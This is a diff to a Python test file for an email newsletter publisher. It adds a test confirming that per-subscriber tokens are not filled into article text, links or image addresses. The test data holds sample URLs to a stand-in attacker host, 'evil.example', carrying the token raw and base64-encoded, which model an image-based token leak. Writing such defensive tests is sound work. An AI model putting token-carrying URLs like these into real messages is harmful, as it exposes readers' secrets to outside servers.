@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import email
 import email.policy
 from datetime import UTC, datetime
@@ -15,12 +16,12 @@ from cryptography.hazmat.primitives.asymmetric import ed25519, rsa
 from hypothesis import given
 from hypothesis import strategies as st
 
-from publisher.config import DigestOptions
+from publisher.config import DigestOptions, Style
 from publisher.digest import TOKEN, mime
 from publisher.errors import ConfigError
 from publisher.mail import dkim
 from publisher.mail.prepared import Own, Prepared
-from publisher.model import Digest
+from publisher.model import Author, Content, Digest, Image, Link, Topic
 from tests.digest import sample
 
 TOKENS = ("AbC-_0123456789AbC-_0123456789AbC-_0123456", "z" * 42)
@@ -95,6 +96,38 @@ def test_a_letter_of_the_real_template_is_filled() -> None:
     assert TOKEN not in plain + rich
 
 
+@pytest.mark.parametrize("language", ["en", "ru"])
+@pytest.mark.parametrize("style", ["headlines", "summaries", "full"])
+def test_no_article_gets_a_readers_words(style: Style, language: str) -> None:
+    """A picture whose address held the placeholder would have told another server each reader's token."""
+    from publisher import digest, templating
+
+    encoded = base64.b64encode(TOKEN.encode()).decode()
+    places = f"https://evil.example/{TOKEN}/{TOKEN}_/{encoded}.png?SUBSCRIBER{TOKEN}{TOKEN[10:]}"
+    article = sample.article(
+        1,
+        language=language,
+        title=f"Words {TOKEN} {encoded}",
+        summary=f"{sample.WORDS[language]} {places}",
+        image=Image(url=places, alt=TOKEN),
+        url=places,
+        related=(Link(title=TOKEN, url=places),),
+        topics=(Topic(slug="a", name=TOKEN),),
+        authors=(Author(name=encoded),),
+    )
+    body = Content(html=f'<p>{TOKEN} <a href="{places}">{encoded}</a></p><p><img src="{places}x" alt=""></p>')
+    issue = sample.issue(article, sample.article(2))
+    options = DigestOptions(style=style)
+    made = digest.render(issue, lambda _: body, options, templating.environment(Path("templates")))
+    data = Prepared(mime.message(made, sender="")).fill(_own())
+    plain, rich = (part.get_content() for part in _read(data).iter_parts() if isinstance(part, EmailMessage))
+
+    assert plain.count(TOKENS[0]) == rich.count(TOKENS[0]) == 2
+    assert base64.b64encode(TOKENS[0].encode()).decode() not in plain + rich
+    assert "evil.example" in plain
+    assert "evil.example" in rich
+
+
 # --- DKIM --------------------------------------------------------------------------------------------------------
 
 
@@ -102,8 +135,6 @@ def _dns(_name: bytes, timeout: int = 5) -> bytes:
     public = PRIVATE.public_key().public_bytes(
         serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
     )
-    import base64
-
     return b"v=DKIM1; k=rsa; p=" + base64.b64encode(public)
 
 
